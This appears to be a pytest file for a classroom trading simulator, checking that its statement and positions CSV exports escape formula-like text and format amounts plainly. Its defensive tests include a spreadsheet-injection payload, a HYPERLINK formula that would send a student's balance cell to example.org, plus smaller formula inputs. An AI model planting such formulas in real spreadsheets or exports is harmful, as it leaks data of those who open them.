"""The student's CSV exports keep text that others typed as text in a spreadsheet."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from accounts.models import Classroom, TradingAccount
from accounts.services import account_adjust
from positions.services import position_close, position_open
from tests.engine.helpers import set_price
from tests.factories import make_instrument

pytestmark = pytest.mark.django_db

# What an instructor could type as a grant's reason: opened in a spreadsheet, it would send
# the cell next to it (the student's balance) to another site.
HYPERLINK = '=HYPERLINK("https://example.org/?b="&G3,"Bonus")'


def _rows(client, name, account):
    response = client.get(reverse(name, args=[account.pk]))
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("reason", [HYPERLINK, "+1+2", "-2+3", "@SUM(1,2)"])
def test_a_grant_reason_that_reads_as_a_formula_is_text_in_the_statement_csv(
    alice_client, account, reason
):
    account_adjust(account_id=account.pk, amount=Decimal(5), reason=reason)
    memos = [row["memo"] for row in _rows(alice_client, "statement-csv", account)]
    assert memos == ["Starting balance", "'" + reason]


def test_ordinary_memos_and_negative_amounts_are_written_as_they_are(alice_client, account, btc):
    position = position_open(
        account_id=account.pk, instrument_id=btc.pk, side="long", quantity="0.5", leverage=20
    )
    rows = _rows(alice_client, "statement-csv", account)
    assert rows[1]["memo"].startswith("Open long 0.5 BTCUSDT")
    assert Decimal(rows[1]["amount"]) < 0 and not rows[1]["amount"].startswith("'")
    position_close(position_id=position.pk)
    (closed,) = _rows(alice_client, "positions-csv", account)
    assert closed["instrument"] == "BTCUSDT"


def test_a_symbol_and_currency_that_read_as_formulas_are_text_in_the_csv_exports(
    alice_client, account
):
    Classroom.objects.filter(pk=account.classroom_id).update(currency="=1+2")
    instrument = make_instrument(account.classroom, symbol="=2+3")
    position = position_open(
        account_id=account.pk,
        instrument_id=instrument.pk,
        side="short",
        quantity="0.5",
        leverage=20,
    )
    position_close(position_id=position.pk)
    (closed,) = _rows(alice_client, "positions-csv", account)
    assert (closed["instrument"], closed["currency"]) == ("'=2+3", "'=1+2")
    statement = _rows(alice_client, "statement-csv", account)
    assert {row["currency"] for row in statement} == {"'=1+2"}


def test_amounts_are_written_as_people_write_them(alice_client, account, btc):
    """As in the grade export: 0 and 60000, never 0E-8 or 60000.0000000000."""
    position = position_open(
        account_id=account.pk, instrument_id=btc.pk, side="long", quantity="0.5", leverage=20
    )
    position_close(position_id=position.pk)  # at the entry: no price PnL
    (closed,) = _rows(alice_client, "positions-csv", account)
    assert (closed["quantity"], closed["entry_price"], closed["exit_price"]) == (
        "0.5",
        "60000",
        "60000",
    )
    assert closed["realized_pnl"] == "0"
    assert closed["fees_paid"] == "30"
    statement = _rows(alice_client, "statement-csv", account)
    assert statement[0]["amount"] == statement[0]["balance"] == "10000"
    assert statement[-1]["balance"] == "9970"  # the fee both ways


def test_the_positions_csv_has_the_net_result_the_history_shows(alice_client, account, btc):
    """Liquidated short of bankruptcy, part of the collateral went to the insurance fund: the
    realised PnL and fees of the export do not add up to what the free balance lost."""
    Classroom.objects.filter(pk=account.classroom_id).update(liquidation_fee_rate=Decimal("0.001"))
    start = TradingAccount.objects.get(pk=account.pk).balance
    position = position_open(
        account_id=account.pk, instrument_id=btc.pk, side="long", quantity="0.01", leverage=20
    )
    set_price(btc, "57100")  # past the liquidation price 57,228.9, short of 57,000
    position.refresh_from_db()
    assert position.status == "liquidated"
    lost = TradingAccount.objects.get(pk=account.pk).balance - start
    (row,) = _rows(alice_client, "positions-csv", account)
    assert Decimal(row["realized_pnl"]) - Decimal(row["fees_paid"]) != lost
    assert Decimal(row["net_result"]) == lost
    history = alice_client.get(reverse("history", args=[account.pk])).content.decode()
    assert f'data-testid="net-result-{position.pk}">{lost:,.2f}<' in history
